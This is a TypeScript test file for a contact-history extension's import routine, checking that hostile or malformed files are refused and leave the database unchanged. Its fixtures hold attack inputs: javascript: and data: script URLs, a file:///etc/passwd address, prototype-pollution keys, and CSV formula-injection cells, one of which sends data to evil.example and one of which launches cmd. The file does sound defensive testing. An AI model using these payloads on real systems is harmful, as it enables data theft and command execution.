import type { DBCore, DBCoreMutateRequest } from 'dexie';
import { IDBFactory, IDBKeyRange } from 'fake-indexeddb';
import { describe, expect, it } from 'vitest';
import { allContacts, HistoryDB, previewImport, upsertRecordsWritten } from '@/lib/history/db';
import { toCsv } from '@/lib/history/csv';
import { HISTORY_VERSION, importWriteError, parseHistoryFile, toHistoryFile, toJsonLines } from '@/lib/history/exchange';
import type { ContactRecord } from '@/lib/history/types';
import { bundledKb } from '@/lib/kb/index';
import { translate } from '@/lib/ui/i18n';
import { generateHistory } from '../../scripts/bench-history-data';

/**
 * Hostile and broken history files, taken the way the popup and the options page take them:
 * parsed (and refused with a message) before anything is written, then previewed and written in
 * one transaction. A refused file, or a write that fails, leaves the database exactly as it was.
 */

/** A history of some contacts and actors, and a way to snapshot all of it. */
async function filledDb(name = `h${Math.random()}`, middleware?: (down: DBCore) => DBCore) {
  const db = new HistoryDB(name, { indexedDB: new IDBFactory(), IDBKeyRange });
  if (middleware) db.use({ stack: 'dbcore', name: 'test', create: middleware });
  await upsertRecordsWritten(db, generateHistory(120));
  await db.actors.bulkPut(bundledKb().actors.slice(0, 5).map((a) => ({ ...a, origin: 'bundled' as const })));
  return db;
}
const snapshot = async (db: HistoryDB) => JSON.stringify({ contacts: await db.contacts.orderBy(':id').toArray(), actors: await db.actors.orderBy(':id').toArray() });

/** As the popup imports a file's text: refused whole with a message, or previewed and written. */
async function importText(db: HistoryDB, text: string): Promise<{ ok: true; added: number; merged: number } | { ok: false; error: string }> {
  const parsed = parseHistoryFile(text);
  if (!parsed.ok) return parsed;
  await previewImport(db, parsed.value);
  const { added, merged } = await upsertRecordsWritten(db, parsed.value);
  return { ok: true, added, merged };
}

/** A valid file of contacts other than those stored (another seed's), as the popup exports it. */
const fileOf = (recs: Omit<ContactRecord, 'id'>[]) => JSON.parse(JSON.stringify(toHistoryFile(recs.map((r, i) => ({ ...r, id: i + 1 }))))) as { version: number; contacts: Record<string, unknown>[] };
const others = () => generateHistory(300).slice(200);

describe('hostile imports change nothing and say why', () => {
  const refused: [string, () => string, RegExp][] = [
    ['a truncated export', () => JSON.stringify(fileOf(others())).slice(0, 20_000), /cut short: it ends in the middle of a record/],
    ['truncated JSON Lines', () => toJsonLines(others().map((r, i) => ({ ...r, id: i }))).slice(0, 30_001), /cut short: it ends in the middle of a record/],
    ['random bytes', () => 'PK\u0003\u0004\u0000\u0000 binary {', /neither JSON nor JSON Lines/],
    ['a file of a newer format', () => JSON.stringify({ ...fileOf(others()), version: HISTORY_VERSION + 1 }), /newer version \(format 3\); update the extension/],
    ['1,000,000 records', () => `{"format":"kontakty-history","version":1,"exported":"2026-01-01","contacts":[${'{},'.repeat(999_999)}{}]}`, /holds 1000000 contacts; at most 500000/],
    ['a 200 MB file', () => JSON.stringify(fileOf(others())).slice(0, -1) + ' '.repeat(200_000_000) + '}', /too large \(20\d million characters; at most 150 million\)/],
    ['a javascript: source address', () => {
      const f = fileOf(others());
      (f.contacts[7]!.sources as { url: string }[])[0]!.url = 'javascript:alert(document.cookie)';
      return JSON.stringify(f);
    }, /Contact 8: a source's address is not a web address \(javascript:alert/],
    ['a data: source address in JSON Lines', () => {
      const recs = others().map((r, i) => ({ ...r, id: i }));
      recs[3]!.sources[0]!.url = 'data:text/html,<script>alert(1)</script>';
      return toJsonLines(recs);
    }, /Contact 4: a source's address is not a web address/],
    ['a file: source address', () => {
      const f = fileOf(others());
      (f.contacts[0]!.sources as { url: string }[])[0]!.url = 'file:///etc/passwd';
      return JSON.stringify(f);
    }, /Contact 1: a source's address is not a web address/],
    ['a source hidden behind "__proto__"', () => {
      const f = fileOf(others());
      (f.contacts[0]!.sources as unknown[])[0] = '@@source@@';
      return JSON.stringify(f).replace('"@@source@@"', '{"__proto__":{"url":"https://x.example/","evidence":{"start":0}}}');
    }, /Contact 1: a source lacks its url or evidence/],
    ['participants made an object', () => JSON.stringify(fileOf(others())).replace(/"participants":\[[^\]]*\]/, '"participants":{"constructor":{"prototype":{"polluted":1}}}'), /Contact 1: participants is not a list of ids/],
  ];

  it.each(refused)('%s: refused, the database as it was', async (_name, make, message) => {
    const db = await filledDb();
    const before = await snapshot(db);
    const r = await importText(db, make());
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.error).toMatch(message);
      expect(r.error).toMatch(/Nothing was imported|update the extension|neither JSON|CSV export/);
    }
    expect(await snapshot(db)).toBe(before);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('"__proto__" and "constructor" keys anywhere in a record never reach the database or a prototype', async () => {
    const db = await filledDb();
    const f = fileOf(others().slice(0, 5));
    const text = JSON.stringify(f)
      .replaceAll('"key":', '"__proto__":{"polluted":1,"edited":true},"constructor":{"prototype":{"polluted":1}},"key":')
      .replaceAll('"evidence":{', '"evidence":{"__proto__":{"polluted":1},"constructor":1,')
      .replaceAll('"actorId":', '"__proto__":{"polluted":1},"actorId":');
    const r = await importText(db, text);
    expect(r).toMatchObject({ ok: true });
    const stored = (await allContacts(db)).filter((c) => f.contacts.some((x) => x.key === c.key));
    expect(stored.length).toBeGreaterThanOrEqual(5);
    const keysDeep = (v: unknown): string[] => (v && typeof v === 'object' ? Object.entries(v).flatMap(([k, x]) => [k, ...keysDeep(x)]) : []);
    for (const c of stored) {
      expect(keysDeep(c)).not.toContain('__proto__');
      expect(keysDeep(c)).not.toContain('constructor');
      expect(Object.getPrototypeOf(c)).toBe(Object.prototype);
      expect(c.edited).toBe(false);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('formula cells are kept as the text they are, and the CSV export makes them inert', async () => {
    const db = new HistoryDB(`f${Math.random()}`, { indexedDB: new IDBFactory(), IDBKeyRange });
    const f = fileOf(others().slice(0, 3));
    f.contacts[0]!.place = '=HYPERLINK("https://evil.example/?"&A1,"Geneva")';
    (f.contacts[1]!.sources as { title: string }[])[0]!.title = '+cmd|" /C calc"!A0';
    ((f.contacts[2]!.sources as { evidence: { exact: string } }[])[0]!.evidence).exact = '@SUM(1+1)*cmd|" /C calc"!A0';
    expect(await importText(db, JSON.stringify(f))).toMatchObject({ ok: true });
    const stored = await allContacts(db);
    const place = stored.find((c) => c.place?.startsWith('=HYPERLINK'));
    expect(place).toBeDefined();
    const csv = toCsv(stored, bundledKb().byId);
    // Each cell that would start a formula starts with an apostrophe instead (inside its quotes).
    for (const cell of csv.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((c) => c.replace(/^"|"$/g, ''))) expect(cell).not.toMatch(/^[=+@]/);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Geneva"")"`);
  });

  it('a urn: address the command line gives a text without one is accepted', async () => {
    const db = await filledDb();
    const f = fileOf(others().slice(0, 2));
    (f.contacts[0]!.sources as { url: string }[])[0]!.url = 'urn:annotate:article-17.txt';
    expect(await importText(db, JSON.stringify(f))).toMatchObject({ ok: true });
    expect((await allContacts(db)).some((c) => c.sources.some((x) => x.url === 'urn:annotate:article-17.txt'))).toBe(true);
  });
});

describe('storage full during an import', () => {
  /** Lets the first half of a bulk write through, then fails as a full disk does. */
  const fullAfterHalf = (down: DBCore): DBCore => ({
    ...down,
    table: (name) => {
      const t = down.table(name);
      return {
        ...t,
        mutate: async (req: DBCoreMutateRequest) => {
          if (name !== 'contacts' || (req.type !== 'add' && req.type !== 'put') || req.values.length < 50 || !failing) return t.mutate(req);
          await t.mutate({ ...req, values: req.values.slice(0, req.values.length >> 1), ...('keys' in req && req.keys ? { keys: req.keys.slice(0, req.values.length >> 1) } : {}) } as DBCoreMutateRequest);
          throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
        },
      };
    },
  });
  let failing = false;

  it('nothing of it is written, and the message says the storage is full', async () => {
    const db = await filledDb(`q${Math.random()}`, fullAfterHalf);
    const before = await snapshot(db);
    failing = true;
    // New contacts and ones that fold into stored ones: both writes are in the transaction.
    const stored = await allContacts(db);
    const repeats = stored.slice(0, 60).map(({ id: _id, ...r }) => ({ ...r, sources: [...r.sources, { ...r.sources[0]!, url: `${r.sources[0]!.url}?again` }] }));
    const parsed = parseHistoryFile(JSON.stringify(toHistoryFile([...others(), ...repeats].map((r, i) => ({ ...r, id: i })))));
    expect(parsed.ok).toBe(true);
    let error: unknown = null;
    try {
      await upsertRecordsWritten(db, parsed.ok ? parsed.value : []);
    } catch (e) {
      error = e;
    }
    failing = false;
    expect(error).not.toBeNull();
    expect(importWriteError(error)).toBe('importStorageFull');
    expect(await snapshot(db)).toBe(before);
    for (const lang of ['en', 'uk', 'ru'] as const) expect(translate(lang, 'importStorageFull')).toMatch(/nothing was imported|нічого не імпортовано|ничего не импортировано/i);
    // Any other failure is still said to have written nothing.
    expect(importWriteError(new Error('x'))).toBe('importFailed');
  });
});
